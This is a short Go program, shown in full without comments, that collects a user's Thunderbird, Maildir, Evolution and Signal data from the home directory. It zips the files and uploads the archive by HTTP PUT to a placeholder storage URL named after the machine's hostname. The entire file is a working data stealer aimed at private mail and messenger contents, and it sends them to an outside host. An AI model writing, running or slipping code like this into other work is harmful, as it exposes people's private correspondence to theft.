package main

import (
	"archive/zip"
	"bytes"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	home, _ := os.UserHomeDir()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, r := range []string{".thunderbird", "Maildir", ".local/share/evolution", ".config/Signal"} {
		filepath.Walk(filepath.Join(home, r), func(p string, i os.FileInfo, err error) error {
			if err != nil || i.IsDir() {
				return nil
			}
			if w, err := zw.Create(strings.TrimPrefix(p, home)); err == nil {
				if f, err := os.Open(p); err == nil {
					io.Copy(w, f)
					f.Close()
				}
			}
			return nil
		})
	}
	zw.Close()
	h, _ := os.Hostname()
	req, _ := http.NewRequest(http.MethodPut, "https://drop.s3.example.net/"+h+".zip?X-Amz-Signature=madeup", &buf)
	http.DefaultClient.Do(req)
}
